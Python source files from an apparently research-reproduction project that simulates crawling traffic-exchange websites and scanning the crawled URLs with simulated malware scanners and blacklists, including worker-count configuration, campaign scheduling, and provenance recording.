#: (with a DeprecationWarning) when the new variable is unset
WORKERS_ENV_VAR = "REPRO_SCAN_WORKERS"

#: live-telemetry scan heartbeat cadence (one beat per N verdicts); the
#: serial loop and the executor merge iterate the same workload order,
#: so the beats coincide at any worker count
_SCAN_HEARTBEAT_EVERY = 64


def workers_from_env() -> int:
    """Default worker count from ``$REPRO_WORKERS`` (1 when unset).

    Falls back to the deprecated ``$REPRO_SCAN_WORKERS`` with a
    :class:`DeprecationWarning` so existing CI matrices keep working
    through the migration window.
    """
    value = os.environ.get(WORKERS_ENV)
    if value is None:
        legacy = os.environ.get(WORKERS_ENV_VAR)
        if legacy is not None:
            warnings.warn(
                "the %s environment variable is deprecated; set %s, which "
                "governs both the crawl and scan phases"
                % (WORKERS_ENV_VAR, WORKERS_ENV),
                DeprecationWarning, stacklevel=2)
            value = legacy
    return int(value or 1)


def legacy_pipeline_kwargs(**kwargs: object) -> PipelineOptions:
    """Adapt pre-:class:`PipelineOptions` keyword arguments (deprecated).

    ``CrawlPipeline(web, seed=..., workers=...)`` still works through
    this shim, but new code should build a :class:`PipelineOptions` and
    pass it as ``options`` — in-repo use of the legacy spelling is
    banned by ruff (TID251).
    """
    unknown = sorted(set(kwargs) - set(PipelineOptions.field_names()))
    if unknown:
        raise TypeError(
            "unknown CrawlPipeline argument(s): %s" % ", ".join(unknown))
    warnings.warn(
        "passing CrawlPipeline configuration as individual keyword "
        "arguments is deprecated; build a repro.crawler.PipelineOptions "
        "and pass it as `options`",
        DeprecationWarning, stacklevel=3)
    return PipelineOptions(**kwargs)  # type: ignore[arg-type]


class ScanOutcome:
    """Everything the scan phase produced.

    Safe to share across threads: the unscanned-query counter sits
    behind a lock, so parallel consumers (report builders, analysis
    passes fanned out over an executor) can query verdicts concurrently
    without losing counts.
    """

    def __init__(self, verdicts: Optional[Dict[str, UrlVerdict]] = None,
                 unscanned_queries: int = 0) -> None:
        self.verdicts: Dict[str, UrlVerdict] = dict(verdicts) if verdicts else {}
        self._unscanned_queries = unscanned_queries
        self._unscanned_by_url: Dict[str, int] = {}
        self._lock = threading.Lock()
        #: the per-URL flight recorder, populated by the pipeline when it
        #: runs with ``record_provenance=True`` (None otherwise)
        self.provenance: Optional[ProvenanceStore] = None

    @property
    def unscanned_queries(self) -> int:
        """How many queries hit a URL the scan phase never saw.

        In a healthy run this stays 0, and a nonzero value means
        "missing verdict", which is *not* the same as "benign".
        """
        return self._unscanned_queries

    def record_unscanned_query(self, url: str) -> None:
        """Explicitly account one query for a never-scanned URL."""
        with self._lock:
            self._unscanned_queries += 1
            self._unscanned_by_url[url] = self._unscanned_by_url.get(url, 0) + 1

    def unscanned_by_url(self) -> Dict[str, int]:
        """Per-URL counts of queries against never-scanned URLs (a copy)."""
        with self._lock:
            return dict(self._unscanned_by_url)

    def unscanned_top(self, n: int = 5) -> List[Tuple[str, int]]:
        """The ``n`` worst never-scanned offenders, most-queried first.

        Ties break alphabetically so the report order is deterministic.
        """
        with self._lock:
            items = sorted(self._unscanned_by_url.items(),
                           key=lambda kv: (-kv[1], kv[0]))
        return items[:n]

    def scanned(self, url: str) -> bool:
        """True when the scan phase produced a verdict for ``url``."""
        return url in self.verdicts

    def is_malicious(self, url: str) -> bool:
        verdict = self.verdicts.get(url)
        if verdict is None:
            # never-scanned is counted, not silently folded into benign
            self.record_unscanned_query(url)
            return False
        return verdict.malicious

    def verdict(self, url: str) -> Optional[UrlVerdict]:
        return self.verdicts.get(url)


class CrawlPipeline:
    """Runs the full measurement."""

    def __init__(self, web: GeneratedWeb,
                 options: Optional[PipelineOptions] = None,
                 **legacy: object) -> None:
        if legacy:
            if options is not None:
                raise TypeError(
                    "pass either `options` or legacy keyword arguments, "
                    "not both")
            options = legacy_pipeline_kwargs(**legacy)
        elif options is None:
            options = PipelineOptions()
        elif isinstance(options, int):
            # the pre-options signature was (web, seed=77, ...); a bare
            # int in the second slot is a positional legacy seed
            options = legacy_pipeline_kwargs(seed=options)
        #: the resolved configuration value object (never None)
        self.options = options
        self.web = web
        self.rng = random.Random(options.seed)
        #: record a per-URL VerdictProvenance decision chain during the
        #: scan phase (the flight recorder behind `repro explain`); the
        #: resulting store is deterministic and bit-identical across
        #: worker counts for a fixed seed
        self.record_provenance = options.record_provenance
        #: optional JSON-lines sink for the flight recorder: records are
        #: written through (and flushed) as verdicts land, so a crash
        #: mid-scan still leaves every completed chain on disk
        self.provenance_path = options.provenance_path
        if options.provenance_path is not None:
            self.record_provenance = True
        self.provenance_store: Optional[ProvenanceStore] = None
        #: optional per-phase tracemalloc accounting (see repro.obs.profile)
        self.memory_ledger = options.memory_ledger
        #: first crawl record per URL, built at scan start so provenance
        #: chains can be completed (crawl stages prepended) incrementally
        self._first_record: Dict[str, object] = {}
        #: run the repro.staticjs pass before sandboxing and skip dynamic
        #: execution for pages whose every inline script is provably
        #: side-effect-free; set False to force dynamic-only scanning
        self.static_prefilter = options.static_prefilter
        workers = options.workers
        if workers is None:
            workers = workers_from_env()
        #: worker count for BOTH phases; 1 keeps the serial reference loops
        self.workers = max(1, workers)
        #: the scan-phase executor — injectable for tests (e.g. a
        #: ParallelScanExecutor with an InlineExecutor pool); defaults to
        #: a ThreadPoolExecutor-backed executor when ``workers > 1`` and
        #: to the serial loop at ``workers=1``
        self.scan_executor = options.scan_executor
        if self.scan_executor is None and self.workers > 1:
            self.scan_executor = ParallelScanExecutor(workers=self.workers)
        #: the crawl-phase executor — same contract as the scan one but
        #: sharding by exchange (see repro.crawlexec); defaults parallel
        #: when ``workers > 1`` and to the serial loop at ``workers=1``
        self.crawl_executor = options.crawl_executor
        if self.crawl_executor is None and self.workers > 1:
            from ..crawlexec.executor import ParallelCrawlExecutor

            self.crawl_executor = ParallelCrawlExecutor(workers=self.workers)
        #: accounting from the last executor-backed scan (None after a
        #: serial scan) — shard stats, simulated makespan, speedup
        self.last_scan_execution: Optional[ScanExecution] = None
        #: accounting from the last executor-backed crawl (None after a
        #: serial crawl) — see :class:`repro.crawlexec.CrawlExecution`
        self.last_crawl_execution: Optional[object] = None
        #: opt-in telemetry; with None every hook below is a skipped
        #: attribute test and pipeline outputs are identical to seed
        self.observer = options.observer
        observer = options.observer
        #: streaming telemetry (repro.obs.live) — attached when a status
        #: sink or a watchdog is requested.  It is a pure side channel:
        #: it reads the metric stream at heartbeat instants and writes
        #: only to its own state/sink, so every pipeline output (verdict
        #: map, report, provenance) is bit-identical with it on or off
        self.live = None
        if options.status_path is not None or options.watchdog is not None:
            if observer is None:
                # live telemetry needs the observer's metric stream and
                # clock; observers never change pipeline outputs, so an
                # internal one is safe to create on demand
                from ..obs.observer import RunObserver

                observer = RunObserver()
                self.observer = observer
            from ..obs.live import LiveTelemetry

            self.live = LiveTelemetry(
                clock=observer.clock,
                status_path=options.status_path,
                watchdog=options.watchdog,
            ).attach(observer)
        #: JS sandbox backend, resolved once (explicit option beats
        #: $REPRO_JS_BACKEND beats "ast") and threaded into every
        #: scanner so serial and sharded scans execute scripts the
        #: same way
        self.js_backend = resolve_js_backend(options.js_backend)
        #: pipeline-scoped parsed-program cache shared by every sandbox
        #: run (and every scan-shard clone): each distinct script source
        #: is tokenized/parsed once, then re-run from the cached AST
        #: (or, under the vm backend, from cached bytecode)
        self.compile_cache = CompileCache()
        self.server = SimHttpServer(web.registry, observer=observer)
        # the client's HAR capture shares the observer's clock so span
        # and HAR timestamps never drift apart
        self.client = SimHttpClient(
            self.server,
            clock=observer.clock if observer is not None else None,
            observer=observer,
        )
        self.dataset = CrawlDataset()
        self.exchanges: Dict[str, TrafficExchange] = {}
        self.crawl_stats: Dict[str, CrawlStats] = {}
        self.submit_files = options.submit_files
        self.blacklists: Optional[BlacklistSet] = None
        self.verdict_service: Optional[UrlVerdictService] = None
        self._build_exchange_sites()
        self._build_exchanges()

    # ------------------------------------------------------------------
    # Setup
    # ------------------------------------------------------------------
    def _build_exchange_sites(self) -> None:
        """Register a homepage site for each exchange (self-referrals)."""
        for pool in self.web.pools.values():
            host = pool.profile.host
            if host in self.web.registry:
                continue
            site = Site(host, ContentCategory.ADVERTISEMENT, GroundTruth(False))
            site.add_page(Page(
                "/", pool.profile.name,
                "<html><head><title>%s</title></head><body><h1>%s</h1>"
                "<p>earn traffic by surfing member sites</p></body></html>"
                % (pool.profile.name, pool.profile.name),
            ))
            self.web.registry.add(site)

    def _build_exchanges(self) -> None:
        for name, pool in self.web.pools.items():
            self.exchanges[name] = self._build_exchange(pool)

    def _build_exchange(self, pool: ExchangePool) -> TrafficExchange:
        prof = pool.profile
        cls = AutoSurfExchange if prof.is_auto else ManualSurfExchange
        exchange = cls(
            name=prof.name,
            host=prof.host,
            rng=random.Random(self.rng.randrange(2**32)),
            min_surf_seconds=prof.min_surf_seconds,
            self_referral_rate=prof.self_referral_rate,
            popular_referral_rate=prof.popular_referral_rate,
            popular_urls=self.web.popular_urls,
            allow_multiple_ips=prof.allow_multiple_ips,
        )
        self._list_pool(exchange, pool)
        return exchange

    # -- calibration ---------------------------------------------------------
    #: estimated probability that the scanners flag the *page URL* of a
    #: malicious member site (the page itself, not its sub-resources).
    #: Sites whose malware lives entirely in a remote script or SWF have
    #: clean-looking pages — the paper's footnote 1 explains the same
    #: asymmetry for cloaked pages.
    _PAGE_DETECTABILITY: Dict[MalwareFamily, float] = {
        MalwareFamily.IFRAME_TINY: 0.97,
        MalwareFamily.IFRAME_INVISIBLE: 0.97,
        MalwareFamily.IFRAME_JS_INJECTED: 0.97,
        MalwareFamily.DECEPTIVE_DOWNLOAD: 0.97,
        MalwareFamily.FINGERPRINTING: 0.90,
        MalwareFamily.BLACKLISTED_HOST: 0.97,
        MalwareFamily.MALICIOUS_JS_FILE: 0.05,
        MalwareFamily.SUSPICIOUS_REDIRECT: 0.10,
        MalwareFamily.MALICIOUS_SHORTENED: 0.95,
        MalwareFamily.MALICIOUS_FLASH: 0.08,
    }

    def _visit_yield(self, site: Site) -> Tuple[float, float]:
        """(urls logged per visit, expected *detected* urls per visit).

        Estimated from the site's own structure — the world-builder's
        calibration step, not part of the measurement.
        """
        page = site.pages.get("/") or (next(iter(site.pages.values())) if site.pages else None)
        total = 1.0
        malicious = 0.0
        if site.malicious and page is not None and page.truth.malicious:
            family = site.truth.family or page.truth.family
            malicious = self._PAGE_DETECTABILITY.get(family, 0.9) if family else 0.9
        if page is None:
            return total, malicious
        for sub in page.subresource_urls:
            parsed = Url.try_parse(sub)
            if parsed is None:
                continue
            truth = self.web.registry.truth_for_url(parsed)
            chain_extra = 0.0
            owner = self.web.registry.site(parsed.host)
            if owner is not None and parsed.path in owner.behavior.redirects:
                # redirect chains log every hop; estimate average length
                chain_extra = 2.0
            total += 1.0 + chain_extra
            if truth:
                malicious += (1.0 + chain_extra) * 0.93
        return total, malicious

    def _list_pool(self, exchange: TrafficExchange, pool: ExchangePool) -> None:
        prof = pool.profile
        if not pool.malicious:
            for site in pool.benign:
                exchange.list_site(site.url("/"), weight=1.0, owner_id="member-" + site.host)
            return

        ben_total, ben_urls = 0.0, 0.0
        for site in pool.benign:
            urls, _mal = self._visit_yield(site)
            ben_urls += urls
            ben_total += 1
        mal_total, mal_urls, mal_mal = 0.0, 0.0, 0.0
        for site in pool.malicious:
            urls, mal = self._visit_yield(site)
            mal_urls += urls
            mal_mal += mal
            mal_total += 1
        t_benign = ben_urls / max(ben_total, 1)
        t_mal = mal_urls / max(mal_total, 1)
        m_mal = mal_mal / max(mal_total, 1)

        target = prof.malicious_url_rate
        # solve p (malicious-visit probability among member visits) from
        # target = p*m_mal / (p*t_mal + (1-p)*t_benign)
        denominator = m_mal - target * t_mal + target * t_benign
        p_visit = min(0.95, max(0.01, target * t_benign / max(denominator, 1e-9)))

        campaign_share = prof.campaign_share if self._campaigns_feasible(prof, p_visit) else 0.0
        rotation_p = self._solve_rotation_probability(prof, p_visit, campaign_share)
        # rotation weights: benign sites weight ~1 (mild popularity skew),
        # malicious sites share w_total solving the rotation probability
        benign_weight_total = 0.0
        for site in pool.benign:
            weight = 0.5 + self.rng.random()
            benign_weight_total += weight
            exchange.list_site(site.url("/"), weight=weight, owner_id="member-" + site.host)
        if rotation_p >= 0.999:
            malicious_weight_total = benign_weight_total * 99.0
        else:
            malicious_weight_total = benign_weight_total * rotation_p / max(1e-9, 1.0 - rotation_p)
        #: rare families list at reduced weight — their sites exist on the
        #: exchange (Table IV / Figure 5 need them observed) but a single
        #: one must not claim an outsized slice of a small pool's traffic
        rare_weight = {
            MalwareFamily.MALICIOUS_SHORTENED: 0.35,
            MalwareFamily.MALICIOUS_FLASH: 0.15,
            MalwareFamily.SUSPICIOUS_REDIRECT: 0.5,
        }
        scaled = [
            (site, rare_weight.get(site.truth.family, 1.0) * (0.5 + self.rng.random()))
            for site in pool.malicious
        ]
        scale_norm = malicious_weight_total / max(sum(w for _s, w in scaled), 1e-9)
        for site, weight in scaled:
            exchange.list_site(self._listed_url(site), weight=max(weight * scale_norm, 1e-6),
                               owner_id="member-" + site.host)

        if campaign_share > 0:
            self._schedule_campaigns(exchange, pool, p_visit)

    def _campaign_visit_budget(self, prof: ExchangeProfile, p_visit: float) -> int:
        steps_total = prof.scaled_urls(self.web.config.scale)
        member_fraction = 1.0 - prof.self_referral_rate - prof.popular_referral_rate
        return int(steps_total * member_fraction * p_visit * prof.campaign_share)

    def _campaigns_feasible(self, prof: ExchangeProfile, p_visit: float) -> bool:
        """Bursts need enough volume to schedule meaningful windows."""
        return prof.campaign_share > 0 and self._campaign_visit_budget(prof, p_visit) >= 8

    @staticmethod
    def _solve_rotation_probability(prof: ExchangeProfile, p_visit: float,
                                    campaign_share: float, intensity: float = 0.85) -> float:
        """Rotation malicious-visit probability that, combined with the
        scheduled campaign windows, yields ``p_visit`` overall.

        Campaign windows claim whole steps (including would-be
        self/popular referrals), so the naive ``p*(1-share)`` split
        under-delivers; we solve the balance numerically.
        """
        if campaign_share <= 0:
            return max(0.0, min(0.99, p_visit))
        member_frac = 1.0 - prof.self_referral_rate - prof.popular_referral_rate
        window_frac = min(0.9, p_visit * campaign_share * member_frac / intensity)
        visits_window = intensity + (1.0 - intensity) * member_frac
        lo, hi = 0.0, 0.99
        for _ in range(40):
            rotation = (lo + hi) / 2
            malicious_window = intensity + (1.0 - intensity) * member_frac * rotation
            member_visits = window_frac * visits_window + (1.0 - window_frac) * member_frac
            malicious_visits = (
                window_frac * malicious_window + (1.0 - window_frac) * member_frac * rotation
            )
            if malicious_visits / max(member_visits, 1e-9) < p_visit:
                lo = rotation
            else:
                hi = rotation
        return (lo + hi) / 2

    def _schedule_campaigns(self, exchange: TrafficExchange, pool: ExchangePool,
                            p_visit: float) -> None:
        prof = pool.profile
        if not pool.malicious:
            return
        steps_total = prof.scaled_urls(self.web.config.scale)
        # campaign visits to deliver = share of malicious member visits
        campaign_visits = self._campaign_visit_budget(prof, p_visit)
        if campaign_visits < 8:
            return
        campaign_count = max(2, min(5, campaign_visits // 25))
        visits_each = campaign_visits // campaign_count
        previous_end = 0
        # campaigns push page-level malware (the bursty listings the paper
        # attributes to paid campaigns), not the rare subresource families
        page_families = {
            MalwareFamily.IFRAME_TINY, MalwareFamily.IFRAME_INVISIBLE,
            MalwareFamily.IFRAME_JS_INJECTED, MalwareFamily.DECEPTIVE_DOWNLOAD,
            MalwareFamily.FINGERPRINTING, MalwareFamily.BLACKLISTED_HOST,
        }
        candidates = [s for s in pool.malicious if s.truth.family in page_families]
        if not candidates:
            candidates = pool.malicious
        for index in range(campaign_count):
            target_site = candidates[self.rng.randrange(len(candidates))]
            start = int(steps_total * (index + 0.5 + self.rng.random() * 0.3) / (campaign_count + 1))
            start = max(start, previous_end + 1)  # windows must not overlap
            campaign = exchange.purchase_campaign(
                self._listed_url(target_site),
                visits=max(2, int(visits_each / 1.5)),  # overdelivery restores total
                start_step=start,
                intensity=0.85,
            )
            previous_end = campaign.end_step

    @staticmethod
    def _listed_url(site: Site) -> str:
        """The URL a member lists: the short URL for shortened-family sites."""
        if (
            site.truth.family is MalwareFamily.MALICIOUS_SHORTENED
            and site.truth.detail.startswith("http")
        ):
            return site.truth.detail
        return site.url("/")

    # ------------------------------------------------------------------
    # Crawl
    # ------------------------------------------------------------------
    def crawl(self, scale: Optional[float] = None) -> Dict[str, CrawlStats]:
        """Crawl every exchange at ``scale`` (defaults to web config).

        At ``workers > 1`` the crawl fans out one shard per exchange
        through :class:`repro.crawlexec.ParallelCrawlExecutor`; the
        merge is deterministic, so stats, dataset, HAR logs, and
        telemetry are bit-identical to the serial loop.
        """
        scale = scale if scale is not None else self.web.config.scale
        observer = self.observer
        memory = self.memory_ledger
        specs = self._build_crawl_specs(scale)
        live = self.live
        if live is not None:
            live.run_started(seed=self.options.seed, scale=scale,
                             workers=self.workers, js_backend=self.js_backend)
            live.phase_started("crawl", total_units=len(specs),
                               unit="exchanges")
        with (memory.phase("crawl") if memory is not None else nullcontext()):
            with (observer.frame("crawl") if observer is not None
                  else nullcontext()):
                if self.crawl_executor is not None:
                    self.last_crawl_execution = self.crawl_executor.execute(
                        specs, self, observer=observer)
                else:
                    self._crawl_serial(specs)
        if live is not None:
            live.phase_finished("crawl")
        if memory is not None:
            memory.count_objects("crawl.records", len(self.dataset.records))
            memory.count_objects("crawl.cached_urls", len(self.dataset.content))
            memory.count_objects("simweb.sites", len(self.web.registry))
            memory.count_objects(
                "simweb.pages",
                sum(len(site.pages) for site in self.web.registry))
        return self.crawl_stats

    def _build_crawl_specs(self, scale: float) -> List[object]:
        """One :class:`~repro.crawlexec.CrawlSpec` per exchange.

        Seeds are pre-drawn from the pipeline RNG in exchange order —
        the exact draw sequence the serial loop used to make inline —
        so serial and sharded crawls hand each exchange's crawler the
        same :class:`random.Random` stream.
        """
        from ..crawlexec.executor import CrawlSpec

        specs: List[object] = []
        for index, (name, exchange) in enumerate(self.exchanges.items()):
            prof = self.web.pools[name].profile
            specs.append(CrawlSpec(
                index=index,
                name=name,
                exchange=exchange,
                host=prof.host,
                steps=prof.scaled_urls(scale),
                seed=self.rng.randrange(2**32),
            ))
        return specs

    def _crawl_serial(self, specs: List[object]) -> Dict[str, CrawlStats]:
        """The serial reference loop: one exchange after another on the
        shared client/clock/dataset.  Also the executor's fallback path
        when sharding cannot reproduce the serial interleaving."""
        observer = self.observer
        for spec in specs:
            browser = BrowserSession(
                client=self.client,
                registry=self.web.registry,
                dataset=self.dataset,
                exchange_name=spec.name,
                exchange_host=spec.host,
                observer=observer,
            )
            crawler = ExchangeCrawler(
                spec.exchange, browser, random.Random(spec.seed),
                account_id="measurement-%s" % spec.name,
                observer=observer,
            )
            if observer is not None:
                with observer.span("crawl.exchange", exchange=spec.name,
                                   steps=spec.steps):
                    with observer.frame("exchange:%s" % spec.name):
                        self.crawl_stats[spec.name] = crawler.crawl(spec.steps)
            else:
                self.crawl_stats[spec.name] = crawler.crawl(spec.steps)
        return self.crawl_stats

    # ------------------------------------------------------------------
    # Scan
    # ------------------------------------------------------------------
    def build_detection(self) -> UrlVerdictService:
        """Assemble the detection stack (VT, Quttera, blacklists)."""
        if self.verdict_service is not None:
            return self.verdict_service
        benign_domains = [
            Url.parse("http://%s/" % host).registrable_domain
            for host in self.web.benign_domains
        ]
        self.blacklists = build_blacklists(
            known_bad_domains=[
                Url.parse("http://%s/" % d).registrable_domain
                for d in self.web.known_bad_domains
            ],
            benign_domains=benign_domains,
            rng=random.Random(self.rng.randrange(2**32)),
            guaranteed_multi_listed=[
                Url.parse("http://%s/" % d).registrable_domain
                for d in self.web.notorious_domains
            ],
        )
        self.verdict_service = UrlVerdictService(
            virustotal=VirusTotalSim(client=SimHttpClient(self.server),
                                     observer=self.observer,
                                     static_prefilter=self.static_prefilter,
                                     compile_cache=self.compile_cache,
                                     js_backend=self.js_backend),
            quttera=QutteraSim(client=SimHttpClient(self.server),
                               observer=self.observer,
                               static_prefilter=self.static_prefilter,
                               compile_cache=self.compile_cache,
                               js_backend=self.js_backend),
            blacklists=self.blacklists,
            submit_files=self.submit_files,
            observer=self.observer,
            static_prefilter=self.static_prefilter,
            record_provenance=self.record_provenance,
            compile_cache=self.compile_cache,
            js_backend=self.js_backend,
        )
        return self.verdict_service

    def scan(self) -> ScanOutcome:
        """Scan every distinct crawled URL once."""
        service = self.build_detection()
        outcome = ScanOutcome()
        observer = self.observer
        memory = self.memory_ledger
        live = self.live
        if live is not None:
            live.phase_started("scan",
                               total_units=len(self.dataset.distinct_urls()),
                               unit="urls")
        if self.record_provenance:
            # open the store (and its optional JSON-lines sink) *before*
            # scanning: verdicts write through as they land, so a raise
            # mid-scan still leaves every completed chain flushed
            self._first_record = {}
            for record in self.dataset.records:
                if record.url not in self._first_record:
                    self._first_record[record.url] = record
            self.provenance_store = ProvenanceStore(path=self.provenance_path)
            outcome.provenance = self.provenance_store
        try:
            with (memory.phase("scan") if memory is not None else nullcontext()):
                if observer is not None:
                    with observer.span("scan",
                                       urls=len(self.dataset.distinct_urls())):
                        with observer.frame("scan"):
                            self._scan_all(service, outcome)
                    observer.event("scan.done", urls=len(outcome.verdicts),
                                   malicious=sum(1 for v in outcome.verdicts.values()
                                                 if v.malicious))
                else:
                    self._scan_all(service, outcome)
            if live is not None:
                live.phase_finished("scan")
                live.run_finished(
                    urls=len(outcome.verdicts),
                    malicious=sum(1 for v in outcome.verdicts.values()
                                  if v.malicious))
        finally:
            if self.provenance_store is not None:
                self.provenance_store.close()
            if live is not None:
                # the status sink must survive a crash mid-scan with every
                # completed record flushed, same contract as provenance
                live.close()
        if memory is not None:
            memory.count_objects("scan.verdicts", len(outcome.verdicts))
            if self.provenance_store is not None:
                memory.count_objects("provenance.records",
                                     len(self.provenance_store))
        return outcome

    def _record_verdict_provenance(self, url: str, verdict: UrlVerdict) -> None:
        """Complete one verdict's chain and write it through the store.

        The scanners recorded the scan-side stages; the crawl-side
        stages (fetch + redirect chain) are prepended from the dataset,
        which both the serial loop and the executor share.  Both paths
        call this in workload order, so the store serializes identically
        at any worker count.
        """
        store = self.provenance_store
        provenance = verdict.provenance
        if store is None or provenance is None:
            return
        record = self._first_record.get(url)
        if record is not None:
            crawl_stages = [StageRecord(
                name=STAGE_CRAWL,
                outcome=record.role,
                # the simulated client charges 50 ms per request
                duration=0.05,
                evidence={
                    "exchange": record.exchange,
                    "kind": record.kind,
                    "role": record.role,
                    "step_index": record.step_index,
                    "timestamp": record.timestamp,
                },
            )]
            if record.redirect_count or (record.final_url
                                         and record.final_url != url):
                crawl_stages.append(StageRecord(
                    name=STAGE_REDIRECT,
                    outcome="followed" if record.redirect_count else "none",
                    duration=0.05 * record.redirect_count,
                    evidence={
                        "hops": record.redirect_count,
                        "final_url": record.final_url,
                    },
                ))
            provenance.stages[:0] = crawl_stages
        store.add(provenance)

    def _scan_all(self, service: UrlVerdictService, outcome: ScanOutcome) -> None:
        if self.scan_executor is not None:
            self._scan_executor(service, outcome)
            return
        observer = self.observer
        live = self.live
        done = 0
        for url in self.dataset.distinct_urls():
            cached = self.dataset.content.get(url)
            if cached is None:
                verdict = service.verdict(url)
            else:
                verdict = service.verdict(
                    url,
                    content=cached.content,
                    content_type=cached.content_type,
                    final_url=cached.final_url,
                )
            outcome.verdicts[url] = verdict
            self._record_verdict_provenance(url, verdict)
            if observer is not None:
                observer.count("scan.urls")
                observer.count("scan.verdict.malicious" if verdict.malicious
                               else "scan.verdict.benign")
            done += 1
            if live is not None and done % _SCAN_HEARTBEAT_EVERY == 0:
                live.heartbeat("scan", units_done=done)
        if live is not None and done % _SCAN_HEARTBEAT_EVERY:
            live.heartbeat("scan", units_done=done)

    def _scan_executor(self, service: UrlVerdictService, outcome: ScanOutcome) -> None:
        """Fan the workload out through the configured scan executor.

        The executor's merge is deterministic (original workload order,
        shard telemetry replayed in index order), so the outcome — and
        every ``scan.*`` counter — is bit-identical to the serial loop.
        """
        observer = self.observer
        live = self.live
        execution = self.scan_executor.execute(
            build_scan_tasks(self.dataset), service, observer=observer,
        )
        self.last_scan_execution = execution
        done = 0
        for url, verdict in execution.verdicts.items():
            outcome.verdicts[url] = verdict
            self._record_verdict_provenance(url, verdict)
            if observer is not None:
                observer.count("scan.urls")
                observer.count("scan.verdict.malicious" if verdict.malicious
                               else "scan.verdict.benign")
            # heartbeat cadence matches the serial loop exactly: this
            # merge iterates verdicts in original workload order with the
            # same counters landing before each beat, so the status
            # stream is worker-count-invariant (shard records aside)
            done += 1
            if live is not None and done % _SCAN_HEARTBEAT_EVERY == 0:
                live.heartbeat("scan", units_done=done)
        if live is not None and done % _SCAN_HEARTBEAT_EVERY:
            live.heartbeat("scan", units_done=done)

    # ------------------------------------------------------------------
    def run(self, scale: Optional[float] = None) -> ScanOutcome:
        """Crawl then scan — the full measurement."""
        self.crawl(scale)
        return self.scan()
