"""Crawl dataset storage.

Holds the raw measurement data: one :class:`UrlRecord` per logged URL
instance (the paper's 1,003,087 URLs are instances, its 306,895
"distinct URLs" the deduplicated set), a content cache of what the
browser saw at each distinct URL (the footnote-1 cloaking mitigation:
pages are saved locally for file submission), and the per-exchange HAR
logs the redirect analysis reads.
"""

from __future__ import annotations

import json
from dataclasses import asdict, dataclass
from typing import Dict, Iterator, List, Optional, Set

from ..httpsim import HarLog
from ..simweb.url import Url

__all__ = ["RecordKind", "UrlRecord", "CachedContent", "CrawlDataset"]


class RecordKind:
    """What kind of crawl record a URL instance is."""

    SELF_REFERRAL = "self_referral"
    POPULAR_REFERRAL = "popular_referral"
    REGULAR = "regular"


@dataclass
class UrlRecord:
    """One logged URL instance."""

    url: str
    exchange: str
    kind: str
    step_index: int
    timestamp: float
    #: role within the visit: "page" | "hop" | "subresource"
    role: str = "page"
    final_url: str = ""
    redirect_count: int = 0


@dataclass
class CachedContent:
    """What the crawler's browser received for a distinct URL."""

    content: bytes
    content_type: str
    final_url: str
    redirect_count: int
    status: int = 200


class CrawlDataset:
    """All crawl output, with the access paths analysis needs."""

    def __init__(self) -> None:
        self.records: List[UrlRecord] = []
        self.content: Dict[str, CachedContent] = {}
        self.har_logs: Dict[str, HarLog] = {}

    # -- writing -----------------------------------------------------------
    # deliberately uninstrumented: these run once per logged URL instance,
    # and everything telemetry wants (record counts, dedup hit rate) is
    # derivable from the dataset itself at report time
    def add_record(self, record: UrlRecord) -> None:
        self.records.append(record)

    def cache_content(self, url: str, cached: CachedContent) -> bool:
        """Cache the first capture of ``url``; True when it was new.

        First capture wins: matches "download completed pages" semantics.
        The new/duplicate split is the crawl's dedup hit rate.
        """
        is_new = url not in self.content
        if is_new:
            self.content[url] = cached
        return is_new

    def har_log(self, exchange: str) -> HarLog:
        log = self.har_logs.get(exchange)
        if log is None:
            log = HarLog()
            self.har_logs[exchange] = log
        return log

    # -- reading -------------------------------------------------------------
    def __len__(self) -> int:
        return len(self.records)

    def records_for(self, exchange: str) -> List[UrlRecord]:
        return [r for r in self.records if r.exchange == exchange]

    def exchanges(self) -> List[str]:
        seen: List[str] = []
        for record in self.records:
            if record.exchange not in seen:
                seen.append(record.exchange)
        return seen

    def distinct_urls(self, kind: Optional[str] = None) -> List[str]:
        seen: Set[str] = set()
        out: List[str] = []
        for record in self.records:
            if kind is not None and record.kind != kind:
                continue
            if record.url not in seen:
                seen.add(record.url)
                out.append(record.url)
        return out

    def distinct_domains(self, exchange: Optional[str] = None,
                         kind: Optional[str] = None) -> List[str]:
        seen: Set[str] = set()
        out: List[str] = []
        for record in self.records:
            if exchange is not None and record.exchange != exchange:
                continue
            if kind is not None and record.kind != kind:
                continue
            parsed = Url.try_parse(record.url)
            if parsed is None:
                continue
            domain = parsed.registrable_domain
            if domain not in seen:
                seen.add(domain)
                out.append(domain)
        return out

    def iter_regular(self) -> Iterator[UrlRecord]:
        for record in self.records:
            if record.kind == RecordKind.REGULAR:
                yield record

    # -- (de)serialization (records only; content is bulky) ------------------
    def records_to_json(self) -> str:
        return json.dumps([asdict(r) for r in self.records])

    @classmethod
    def records_from_json(cls, text: str) -> "CrawlDataset":
        dataset = cls()
        for item in json.loads(text):
            dataset.add_record(UrlRecord(**item))
        return dataset
