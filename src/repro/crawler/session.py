"""The crawl browser session.

Performs one "visit" the way the paper's instrumented Firefox did: fetch
the listed URL with the exchange page as referrer (exchanges open sites
in the surf iframe), follow every redirect mechanism, then fetch the
page's sub-resources — logging each request URL into the dataset and the
exchange's HAR log, and caching body bytes for later file submission to
the scanners (the cloaking mitigation).
"""

from __future__ import annotations

from typing import Optional

from ..httpsim import FetchResult, SimHttpClient
from ..simweb.registry import WebRegistry
from ..simweb.url import Url
from .storage import CachedContent, CrawlDataset, RecordKind, UrlRecord

__all__ = ["BrowserSession"]


class BrowserSession:
    """A crawling browser bound to one exchange account."""

    def __init__(
        self,
        client: SimHttpClient,
        registry: WebRegistry,
        dataset: CrawlDataset,
        exchange_name: str,
        exchange_host: str,
        country: str = "US",
        observer: Optional[object] = None,
    ) -> None:
        self.client = client
        self.registry = registry
        self.dataset = dataset
        self.exchange_name = exchange_name
        self.exchange_host = exchange_host
        self.country = country
        #: optional :class:`repro.obs.RunObserver` (None = no-op hooks);
        #: the session is bound to one exchange, so its per-exchange
        #: counters resolve once here rather than once per visit
        self.observer = observer
        if observer is not None:
            metrics = observer.metrics
            self._visits_counter = metrics.counter(
                "crawl.visits", exchange=exchange_name)
            self._redirected_counter = metrics.counter(
                "crawl.redirected_visits", exchange=exchange_name)
            self._subresource_counter = metrics.counter(
                "crawl.subresource_fetches", exchange=exchange_name)

    @property
    def surf_referrer(self) -> str:
        return "http://%s/surf" % self.exchange_host

    # ------------------------------------------------------------------
    def visit(self, url: str, kind: str, step_index: int, timestamp: float) -> FetchResult:
        """Visit ``url``; log page, redirect hops, and sub-resources."""
        page_ref = "%s-%06d" % (self.exchange_name, step_index)
